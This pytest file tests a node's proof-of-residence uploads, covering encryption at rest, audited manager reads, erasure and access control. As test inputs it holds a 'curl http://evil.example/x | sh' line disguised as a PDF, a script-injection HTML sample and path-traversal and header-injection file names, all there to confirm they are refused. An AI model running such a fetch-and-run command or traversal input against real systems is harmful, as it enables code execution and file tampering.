"""Proofs of residence end to end over HTTP: a resident sends one, a manager reads it (each
view audited) and decides; the file is encrypted while it waits and erased at the decision,
at a withdrawal and after ``document_max_days``; hostile uploads and callers are refused.

A real node; PDFs are written out and images made with Pillow in the tests.
"""

from __future__ import annotations

import asyncio
import os
import stat
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient

from node.app import create_app
from node.db import activated
from node.errors import ConfigError
from node.http.keys import DATABASE, SETTINGS, VERIFICATION
from node.verification.models import ResidenceDocument
from node.verification.vault import STORAGE_NAME, create_key
from tests.api import admin_token, bearer, error_of, login, member_token
from tests.conftest import POSTGRES_ADMIN_URL, migrate_schema, scratch_database
from tests.node.cli_support import Run, failed, ok
from tests.node.media_support import gif, jpeg, png
from tests.node.verification_support import (
    DOCUMENTS,
    MY_DOCUMENT,
    MY_VERIFICATION,
    events,
    files_under,
    holding,
    make_manager,
    marker,
    notices,
    pdf,
    set_verified,
    standing,
    upload_document,
    uploaded_document,
)

NONCE = 12  # the vault's files are nonce || ciphertext


@pytest.fixture
async def staff(node, people) -> dict[str, str]:
    """ada (admin), cyd (made a manager), bea and dan (residents)."""
    await make_manager(node, people["ada"], "cyd")
    return {**people, "dan": await member_token(node, people["ada"], "dan")}


def folder(node: TestClient) -> Path:
    return node.app[SETTINGS].documents_path


def stored(node: TestClient) -> list[Path]:
    """The files in <data_dir>/documents."""
    where = folder(node)
    return sorted(where.iterdir()) if where.exists() else []


def sealed_file(node: TestClient) -> bytes:
    """The one document on disk, as stored (nonce and ciphertext)."""
    files = stored(node)
    assert len(files) == 1, files
    assert STORAGE_NAME.fullmatch(files[0].name), files
    return files[0].read_bytes()


async def row(node: TestClient, document_id: int) -> ResidenceDocument:
    with activated(node.app[DATABASE]):
        return await ResidenceDocument.get(id=document_id)


async def sweep(node: TestClient) -> int:
    with activated(node.app[DATABASE]):
        return await node.app[VERIFICATION].sweep()


async def read(node: TestClient, token: str, document_id: int) -> Any:
    return await node.get(f"{DOCUMENTS}/{document_id}/file", headers=bearer(token))


async def decide(node: TestClient, token: str, document_id: int, approve: bool, reason: str = ""):
    return await node.post(
        f"{DOCUMENTS}/{document_id}/decision",
        json={"approve": approve, "reason": reason},
        headers=bearer(token),
    )


async def decided(
    node: TestClient, token: str, document_id: int, approve: bool, reason: str = ""
) -> dict[str, Any]:
    resp = await decide(node, token, document_id, approve, reason)
    assert resp.status == 200, await resp.text()
    return await resp.json()


async def assert_erased(
    node: TestClient, tmp_path: Path, document_id: int, secret: bytes, sealed: bytes
) -> None:
    """The document is gone: no file, no name in its row, and neither its plaintext nor its
    ciphertext in any file of the test (data directory, database files, key, config)."""
    assert stored(node) == []
    document = await row(node, document_id)
    assert document.storage_name is None
    assert "filename" not in ResidenceDocument._meta.fields  # the name was only in the file
    assert document.deleted_at is not None
    assert holding(secret, tmp_path) == []
    assert holding(sealed[NONCE:], tmp_path) == []
    assert holding(sealed[NONCE : NONCE + 32], tmp_path) == []  # not even part of it
    assert holding(sealed[-32:], tmp_path) == []


# From upload to decision


async def test_a_pdf_waits_encrypted_is_read_by_a_manager_then_approved_and_erased(
    node, staff, tmp_path
):
    secret = marker()
    original = pdf(secret)
    document = await uploaded_document(node, staff["bea"], original, "EDF bill March.pdf")
    assert document == {
        "id": document["id"],
        "state": "pending",
        "media_type": "application/pdf",
        "size_bytes": len(original),
        "filename": "EDF bill March.pdf",
        "uploaded_at": "2026-11-26T12:00:00Z",
        "decided_at": None,
        "reason": None,
        "deleted": False,
    }
    mine = await standing(node, staff["bea"])
    assert (mine["level"], mine["method"]) == ("unverified", None)
    assert mine["documents"] == [document]
    # Encrypted at rest: the file holds neither the marker nor any of the PDF's structure.
    sealed = sealed_file(node)
    assert secret not in sealed
    assert b"%PDF" not in sealed
    assert len(sealed) > len(original)  # nonce and tag around the ciphertext
    assert holding(secret, tmp_path) == []  # nor anywhere else: the database, a temporary file
    key = node.app[SETTINGS].document_key_path
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert holding(key.read_bytes(), tmp_path) == [key]  # never in the database

    resp = await node.get(DOCUMENTS, headers=bearer(staff["cyd"]))
    assert resp.status == 200, await resp.text()
    waiting = await resp.json()
    assert [(d["id"], d["member"]["username"], d["filename"]) for d in waiting] == [
        (document["id"], "bea", "EDF bill March.pdf")
    ]
    assert waiting[0]["member"]["real_name"] == "Bea"  # staff match it against the bill

    for _ in range(2):
        resp = await read(node, staff["cyd"], document["id"])
        assert resp.status == 200, await resp.text()
        assert await resp.read() == original
        assert resp.headers["Content-Type"] == "application/pdf"
        disposition = resp.headers["Content-Disposition"]
        assert disposition.startswith("attachment")
        assert "EDF" not in disposition  # the member's file name stays out of downloads
        assert "no-store" in resp.headers["Cache-Control"]
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in resp.headers["Content-Security-Policy"]
        assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
    trail = await events(node, staff["ada"])
    views = [e for e in trail if e["action"] == "document.viewed"]
    assert [(e["by"], e["member"], e["document_id"]) for e in views] == [
        ("cyd", "bea", document["id"])
    ] * 2

    outcome = await decided(node, staff["cyd"], document["id"], True)
    assert (outcome["state"], outcome["deleted"], outcome["filename"]) == ("approved", True, None)
    assert outcome["decided_at"] == "2026-11-26T12:00:00Z"
    mine = await standing(node, staff["bea"])
    assert (mine["level"], mine["method"]) == ("verified", "document")
    assert mine["verified_at"] == "2026-11-26T12:00:00Z"
    assert [(d["state"], d["deleted"], d["filename"]) for d in mine["documents"]] == [
        ("approved", True, None)
    ]
    assert await notices(node, staff["bea"]) == [("verification.verified", "")]
    await assert_erased(node, tmp_path, document["id"], secret, sealed)
    resp = await node.get(DOCUMENTS, headers=bearer(staff["cyd"]))
    assert await resp.json() == []
    # Decided: it cannot be read or decided again.
    await error_of(await read(node, staff["cyd"], document["id"]), 409, "conflict")
    await error_of(await decide(node, staff["ada"], document["id"], False, "no"), 409, "conflict")
    assert (await standing(node, staff["bea"]))["level"] == "verified"
    trail = await events(node, staff["ada"])
    assert ("document.approved", "cyd", "bea") in [
        (e["action"], e["by"], e["member"]) for e in trail
    ]


async def upload_and_read_back(
    node: TestClient, staff: dict[str, str], original: bytes, sent_as: str
) -> dict[str, Any]:
    """bea sends a photo (declared a PDF by her browser); cyd reads it back unchanged; bea
    takes it back. Its record."""
    resp = await upload_document(node, staff["bea"], original, sent_as, "application/pdf")
    assert resp.status == 201, await resp.text()
    document = await resp.json()
    assert document["size_bytes"] == len(original)
    sealed = sealed_file(node)
    assert original[100:132] not in sealed  # encrypted at rest
    resp = await read(node, staff["cyd"], document["id"])
    assert resp.status == 200, await resp.text()
    assert resp.headers["Content-Type"] == document["media_type"]
    assert await resp.read() == original  # kept as sent: a proof is not re-encoded
    resp = await node.delete(MY_DOCUMENT, headers=bearer(staff["bea"]))
    assert resp.status == 200, await resp.text()
    return document


async def test_a_jpeg_photo_of_a_letter_is_accepted_whatever_its_name_says(node, staff):
    for sent_as, shown_as in (("scan.jpeg", "scan.jpg"), ("bill.pdf", "bill.jpg")):
        document = await upload_and_read_back(node, staff, jpeg((400, 300)), sent_as)
        assert (document["media_type"], document["filename"]) == ("image/jpeg", shown_as)


async def test_a_png_photo_of_a_letter_is_accepted_and_a_damaged_one_refused(node, staff):
    document = await upload_and_read_back(node, staff, png((300, 200)), "Letter photo.PNG")
    assert (document["media_type"], document["filename"]) == ("image/png", "Letter photo.png")
    damaged = bytearray(png((300, 200)))
    damaged[damaged.index(b"IDAT") + 12] ^= 0xFF  # its checksum no longer matches
    resp = await upload_document(node, staff["bea"], bytes(damaged), "letter.png", "image/png")
    error = await error_of(resp, 422, "validation_failed")
    assert [d["field"] for d in error["details"]] == ["file"]
    assert stored(node) == []


async def test_the_members_file_name_is_in_no_database_file_once_the_document_is_decided(
    node, staff, tmp_path
):
    """The row keeps the outcome only, "no file name" (names like "edf_dupont.pdf" talk):
    the name must not survive in the SQLite files either (WAL, free pages)."""
    if POSTGRES_ADMIN_URL:
        pytest.skip("the database files are PostgreSQL's, not in the test's directory")
    name = f"EDF Dupont-{marker().decode()[-12:]}"
    document = await uploaded_document(node, staff["bea"], pdf(marker()), f"{name}.pdf")
    assert document["filename"] == f"{name}.pdf"
    await decided(node, staff["cyd"], document["id"], True)
    assert holding(name.encode(), tmp_path) == []


async def test_a_rejection_says_why_and_the_member_may_send_another(node, staff, tmp_path):
    secret = marker()
    document = await uploaded_document(node, staff["bea"], pdf(secret))
    sealed = sealed_file(node)
    for reason in ("", "   "):
        resp = await decide(node, staff["cyd"], document["id"], False, reason)
        error = await error_of(resp, 422, "validation_failed")
        assert [d["field"] for d in error["details"]] == ["reason"]
    assert sealed_file(node) == sealed  # still waiting, still there
    assert (await standing(node, staff["bea"]))["documents"][0]["state"] == "pending"

    why = "The bill is from 2023: send one from the last three months"
    outcome = await decided(node, staff["cyd"], document["id"], False, why)
    assert (outcome["state"], outcome["reason"], outcome["deleted"]) == ("rejected", why, True)
    mine = await standing(node, staff["bea"])
    assert mine["level"] == "unverified"
    assert [(d["state"], d["reason"]) for d in mine["documents"]] == [("rejected", why)]
    assert await notices(node, staff["bea"]) == [("verification.rejected", why)]
    await assert_erased(node, tmp_path, document["id"], secret, sealed)

    again = await uploaded_document(node, staff["bea"], pdf(marker()))
    assert again["id"] != document["id"]
    mine = await standing(node, staff["bea"])
    assert [d["state"] for d in mine["documents"]] == ["pending", "rejected"]  # newest first


async def test_a_proof_withdrawn_or_made_needless_by_another_verification_is_erased(
    node, staff, tmp_path
):
    secret = marker()
    document = await uploaded_document(node, staff["bea"], pdf(secret))
    sealed = sealed_file(node)
    resp = await node.delete(MY_DOCUMENT, headers=bearer(staff["bea"]))
    assert resp.status == 200, await resp.text()
    assert ((await resp.json())["state"], (await resp.json())["deleted"]) == ("withdrawn", True)
    await assert_erased(node, tmp_path, document["id"], secret, sealed)
    await error_of(await node.delete(MY_DOCUMENT, headers=bearer(staff["bea"])), 404, "not_found")
    await error_of(await read(node, staff["cyd"], document["id"]), 409, "conflict")
    await error_of(await decide(node, staff["cyd"], document["id"], True), 409, "conflict")
    assert (await standing(node, staff["bea"]))["level"] == "unverified"
    resp = await node.get(DOCUMENTS, headers=bearer(staff["cyd"]))
    assert await resp.json() == []

    # She sends another; verified by a manager who knows her, it is not needed any more.
    secret = marker()
    again = await uploaded_document(node, staff["bea"], pdf(secret))
    sealed = sealed_file(node)
    await set_verified(node, staff["cyd"], "bea")
    mine = await standing(node, staff["bea"])
    assert (mine["level"], mine["method"]) == ("verified", "manager")
    assert [(d["id"], d["state"], d["deleted"]) for d in mine["documents"]] == [
        (again["id"], "withdrawn", True),
        (document["id"], "withdrawn", True),
    ]
    await assert_erased(node, tmp_path, again["id"], secret, sealed)


async def test_a_proof_nobody_decided_on_is_erased_after_document_max_days(
    node, staff, clock, tmp_path
):
    secret = marker()
    document = await uploaded_document(node, staff["bea"], pdf(secret))
    sealed = sealed_file(node)
    clock.advance(days=29, hours=23)
    assert await sweep(node) == 0
    assert sealed_file(node) == sealed
    clock.advance(days=1, hours=1)  # 31 days after the upload
    stray = folder(node) / f"{'ab' * 16}.bin"  # a crash between writing a file and its row
    stray.write_bytes(b"\x01" * 64)
    assert await sweep(node) == 1
    await assert_erased(node, tmp_path, document["id"], secret, sealed)
    assert not stray.exists()
    bea, cyd = await login(node, "bea"), await login(node, "cyd")  # their sessions ended
    mine = await standing(node, bea)
    assert [(d["state"], d["deleted"]) for d in mine["documents"]] == [("expired", True)]
    assert mine["level"] == "unverified"
    [(kind, detail)] = await notices(node, bea)
    assert kind == "verification.rejected"
    assert "in time" in detail
    await error_of(await read(node, cyd, document["id"]), 409, "conflict")
    assert await sweep(node) == 0  # once
    await uploaded_document(node, bea, pdf(marker()))  # and may send another
    kept = sealed_file(node)
    assert await sweep(node) == 0
    assert sealed_file(node) == kept  # a pending document's file is not a stray


# What is refused


async def assert_nothing_kept(node: TestClient, token: str) -> None:
    assert stored(node) == []
    assert (await standing(node, token))["documents"] == []


async def outcomes(
    node: TestClient, token: str, cases: dict[str, tuple[bytes, str]]
) -> dict[str, tuple[int, str]]:
    """Each case uploaded (data, file name): its status and error code."""
    found = {}
    for case, (data, name) in cases.items():
        resp = await upload_document(node, token, data, name)
        body = await resp.json()
        found[case] = (resp.status, body.get("error", {}).get("code", ""))
    return found


async def test_a_file_of_another_type_is_refused_with_415_and_nothing_is_kept(node, staff):
    cases = {
        "gif": (gif(), "letter.gif"),
        "text": (b"I live at 3 rue des Lilas, flat 12\n", "letter.txt"),
        "shell script named .pdf": (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "bill.pdf"),
        "executable named .pdf": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "bill.pdf"),
        "html named .pdf": (b"<html><script>alert(1)</script></html>", "bill.pdf"),
    }
    refused = (415, "unsupported_media_type")
    assert await outcomes(node, staff["bea"], cases) == {case: refused for case in cases}
    resp = await upload_document(node, staff["bea"], gif(), "letter.gif")
    assert "PDF, JPEG or PNG" in (await error_of(resp, 415, "unsupported_media_type"))["message"]
    for body, content_type in (
        (pdf(marker()), "application/pdf"),
        (b'{"a": 1}', "application/json"),
    ):
        headers = {**bearer(staff["bea"]), "Content-Type": content_type}
        resp = await node.post(MY_DOCUMENT, data=body, headers=headers)  # not multipart
        await error_of(resp, 415, "unsupported_media_type")
    await assert_nothing_kept(node, staff["bea"])


async def test_a_truncated_or_empty_pdf_is_refused_with_422_and_nothing_is_kept(node, staff):
    whole = pdf(marker())
    cases = {
        "cut in the middle": (whole[: len(whole) // 2], "bill.pdf"),
        "no end-of-file marker": (whole.replace(b"%%EOF", b""), "bill.pdf"),
        "empty": (b"", "bill.pdf"),
    }
    refused = (422, "validation_failed")
    assert await outcomes(node, staff["bea"], cases) == {case: refused for case in cases}
    resp = await upload_document(node, staff["bea"], whole[:300])
    error = await error_of(resp, 422, "validation_failed")
    assert [d["field"] for d in error["details"]] == ["file"]
    assert "truncated" in error["message"]
    await assert_nothing_kept(node, staff["bea"])


async def test_a_document_over_document_max_bytes_is_refused(make_node, make_settings):
    node = await make_node(make_settings(verification={"document_max_bytes": "2048"}))
    ada = await admin_token(node)
    bea = await member_token(node, ada, "bea")
    for size in (2049, 200_000):
        error = await error_of(
            await upload_document(node, bea, pdf(marker(), size)), 413, "payload_too_large"
        )
        assert "2048 bytes" in error["message"]
        await assert_nothing_kept(node, bea)
    document = await uploaded_document(node, bea, pdf(marker(), 2048))  # the limit itself
    assert document["size_bytes"] == 2048


def raw_upload(data: bytes, disposition: bytes) -> tuple[bytes, dict[str, str]]:
    """A multipart body written by hand, with the ``file`` part's Content-Disposition
    parameters as given (clients such as aiohttp's would percent-encode a file name)."""
    boundary = b"quartier-test-boundary"
    body = (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; ' + disposition
        + b"\r\nContent-Type: application/pdf\r\n\r\n" + data
        + b"\r\n--" + boundary + b"--\r\n"
    )  # fmt: skip
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary.decode()}"}


NAMES = [
    (b'filename="../../etc/passwd.pdf"', "passwd.pdf"),
    (b'filename="/etc/cron.d/evil"', "evil.pdf"),
    (rb'filename="C:\\Users\\bea\\Documents\\EDF bill.pdf"', "EDF bill.pdf"),
    (b"filename*=UTF-8''..%5C..%5Cwindows%5Csystem32%5Cevil.pdf", "evil.pdf"),
    (
        b"filename*=UTF-8''..%2F..%2Fbi%07ll%1B%5B31m%00%0D%0AX-Evil%3A%201.pdf",
        "bill_31mX-Evil_ 1.pdf",
    ),
    (b"filename*=UTF-8''%E2%80%AEfdp.exe", "fdp.pdf"),  # a right-to-left override
    (b'filename="..."', "document.pdf"),
]


async def test_a_file_name_is_cut_to_its_last_segment_and_cleaned_and_nothing_escapes(
    node, staff, tmp_path
):
    shown = []
    for disposition, _ in NAMES:
        before = set(files_under(tmp_path))
        body, headers = raw_upload(pdf(marker()), disposition)
        resp = await node.post(MY_DOCUMENT, data=body, headers={**headers, **bearer(staff["bea"])})
        assert resp.status == 201, await resp.text()
        document = await resp.json()
        resp = await node.get(DOCUMENTS, headers=bearer(staff["cyd"]))
        assert [d["filename"] for d in await resp.json()] == [document["filename"]]
        shown.append(document["filename"])
        # Written: one encrypted file in <data_dir>/documents, named by the node.
        new = {path for path in set(files_under(tmp_path)) - before if "sqlite3" not in path.name}
        assert new == set(stored(node))
        assert [STORAGE_NAME.fullmatch(path.name) is not None for path in new] == [True]
        resp = await read(node, staff["cyd"], document["id"])
        assert resp.headers["Content-Disposition"] == (
            f'attachment; filename="proof-of-residence-{document["id"]}.pdf"'
        )
        resp = await node.delete(MY_DOCUMENT, headers=bearer(staff["bea"]))
        assert resp.status == 200, await resp.text()
    assert shown == [name for _, name in NAMES]
    assert not (tmp_path.parent / "etc").exists()
    assert not (tmp_path / "etc").exists()


async def test_one_proof_waits_at_a_time_and_a_verified_member_sends_none(node, staff):
    responses = await asyncio.gather(  # at once, as a double click sends them
        *(upload_document(node, staff["bea"], pdf(marker())) for _ in range(3))
    )
    assert sorted(resp.status for resp in responses) == [201, 409, 409]
    [first] = [await resp.json() for resp in responses if resp.status == 201]
    resp = await upload_document(node, staff["bea"], pdf(marker()))
    error = await error_of(resp, 409, "conflict")
    assert "already waiting" in error["message"]
    assert len(stored(node)) == 1
    assert [d["id"] for d in (await standing(node, staff["bea"]))["documents"]] == [first["id"]]
    await set_verified(node, staff["ada"], "dan")
    resp = await upload_document(node, staff["dan"], pdf(marker()))
    error = await error_of(resp, 409, "conflict")
    assert "already verified" in error["message"]
    assert len(stored(node)) == 1


# Who may read and decide


async def test_residents_and_strangers_neither_list_nor_read_nor_decide(node, staff):
    document = await uploaded_document(node, staff["bea"], pdf(marker()))
    path = f"{DOCUMENTS}/{document['id']}"
    for token in (staff["dan"], staff["bea"]):  # another resident, and the member themself
        await error_of(await node.get(DOCUMENTS, headers=bearer(token)), 403, "forbidden")
        await error_of(await read(node, token, document["id"]), 403, "forbidden")
        await error_of(await decide(node, token, document["id"], True), 403, "forbidden")
    node.session.cookie_jar.clear()  # the test client keeps the last login's cookie
    for headers in ({}, bearer("not-a-token")):
        await error_of(await node.get(DOCUMENTS, headers=headers), 401, "unauthorized")
        await error_of(await node.get(f"{path}/file", headers=headers), 401, "unauthorized")
        resp = await node.post(f"{path}/decision", json={"approve": True}, headers=headers)
        await error_of(resp, 401, "unauthorized")
        await error_of(await node.get(MY_VERIFICATION, headers=headers), 401, "unauthorized")
        resp = await node.post(MY_DOCUMENT, data=b"x", headers=headers)
        await error_of(resp, 401, "unauthorized")
        await error_of(await node.delete(MY_DOCUMENT, headers=headers), 401, "unauthorized")
    assert await notices(node, staff["bea"]) == []
    views = [e for e in await events(node, staff["ada"]) if e["action"] == "document.viewed"]
    assert views == []  # refused reads leave no "viewed" entry
    assert (await standing(node, staff["bea"]))["documents"][0]["state"] == "pending"


@pytest.fixture
async def other_node(make_node, make_settings, tmp_path) -> AsyncIterator[TestClient]:
    """A second node (its own database and data directory) with an admin ada and a manager
    cyd: the same names as on the first node, other people."""
    async with scratch_database(tmp_path, "other", schema=True) as url:
        settings = make_settings(
            server={"base_url": "http://127.0.0.1:8081"},
            storage={"database_url": url, "data_dir": str(tmp_path / "other-data")},
        )
        client = await make_node(settings)
        ada = await admin_token(client)
        await member_token(client, ada, "cyd")
        await make_manager(client, ada, "cyd")
        yield client
        await client.close()


async def test_another_nodes_manager_cannot_read_or_decide_here(node, staff, other_node):
    document = await uploaded_document(node, staff["bea"], pdf(marker()))
    for username in ("cyd", "ada"):
        token = await login(other_node, username)
        assert (await other_node.get(DOCUMENTS, headers=bearer(token))).status == 200
        await error_of(await node.get(DOCUMENTS, headers=bearer(token)), 401, "unauthorized")
        await error_of(await read(node, token, document["id"]), 401, "unauthorized")
        await error_of(await decide(node, token, document["id"], True), 401, "unauthorized")
    assert (await standing(node, staff["bea"]))["level"] == "unverified"
    assert [e["action"] for e in await events(node, staff["ada"])] == ["document.uploaded"]


async def test_a_manager_does_not_decide_on_their_own_proof_and_a_proof_is_decided_once(
    node, staff
):
    own = await uploaded_document(node, staff["cyd"], pdf(marker()))
    for approve, reason in ((True, ""), (False, "not good enough")):
        resp = await decide(node, staff["cyd"], own["id"], approve, reason)
        error = await error_of(resp, 403, "forbidden")
        assert "another manager" in error["message"]
    assert (await standing(node, staff["cyd"]))["level"] == "unverified"
    await decided(node, staff["ada"], own["id"], True)  # another one does
    assert (await standing(node, staff["cyd"]))["method"] == "document"

    document = await uploaded_document(node, staff["bea"], pdf(marker()))
    await decided(node, staff["cyd"], document["id"], False, "unreadable scan")
    for approve, reason in ((True, ""), (False, "again")):
        resp = await decide(node, staff["ada"], document["id"], approve, reason)
        await error_of(resp, 409, "conflict")
    mine = await standing(node, staff["bea"])
    assert mine["level"] == "unverified"
    assert [(d["state"], d["reason"]) for d in mine["documents"]] == [
        ("rejected", "unreadable scan")
    ]
    assert await notices(node, staff["bea"]) == [("verification.rejected", "unreadable scan")]
    await error_of(await read(node, staff["cyd"], 999_999), 404, "not_found")
    await error_of(await decide(node, staff["cyd"], 999_999, True), 404, "not_found")


# Damaged files and a missing key


async def test_a_tampered_or_swapped_file_is_a_clear_404_for_the_manager_not_a_500(node, staff):
    bea_doc = await uploaded_document(node, staff["bea"], pdf(marker()))
    [bea_file] = stored(node)
    data = bytearray(bea_file.read_bytes())
    data[len(data) // 2] ^= 0x01
    bea_file.write_bytes(bytes(data))
    error = await error_of(await read(node, staff["cyd"], bea_doc["id"]), 404, "not_found")
    assert "damaged" in error["message"]
    assert "new one" in error["message"]
    # The manager can still turn it down, asking for another, and it is erased.
    await decided(node, staff["cyd"], bea_doc["id"], False, "the file was damaged; send it again")
    assert stored(node) == []

    # Files swapped on disk do not show one member another's document.
    bea_doc = await uploaded_document(node, staff["bea"], pdf(marker()))
    [bea_file] = stored(node)
    dan_doc = await uploaded_document(node, staff["dan"], pdf(marker()))
    [dan_file] = [path for path in stored(node) if path != bea_file]
    bea_data, dan_data = bea_file.read_bytes(), dan_file.read_bytes()
    bea_file.write_bytes(dan_data)
    dan_file.write_bytes(bea_data)
    for document in (bea_doc, dan_doc):
        error = await error_of(await read(node, staff["cyd"], document["id"]), 404, "not_found")
        assert "damaged" in error["message"]


def test_quartier_migrate_makes_a_private_key_and_serve_refuses_to_start_without_it(
    quartier: Run, tmp_path: Path
):
    ok(quartier("migrate"))
    key = tmp_path / "data" / "document.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert len(key.read_bytes()) == 32
    kept = key.read_bytes()
    ok(quartier("migrate"))  # run again: the key is kept, or every stored document is lost
    assert key.read_bytes() == kept
    key.unlink()
    err = failed(quartier("serve"))
    assert str(key) in err
    assert "quartier migrate" in err


async def started(app: web.Application) -> str:
    """Start ``app`` as serving does; the start-up error's message."""
    runner = web.AppRunner(app)
    try:
        with pytest.raises(ConfigError) as info:
            await runner.setup()
    finally:
        await runner.cleanup()
    return str(info.value)


async def test_a_node_without_its_key_or_with_a_key_others_read_does_not_start(
    make_settings, clock
):
    settings = make_settings()
    await migrate_schema(settings.database_url)
    key = settings.document_key_path
    message = await started(create_app(settings, clock=clock, run_worker=False))
    assert str(key) in message
    assert "quartier migrate" in message
    create_key(key)
    os.chmod(key, 0o644)
    message = await started(create_app(settings, clock=clock, run_worker=False))
    assert str(key) in message
    assert "chmod 600" in message
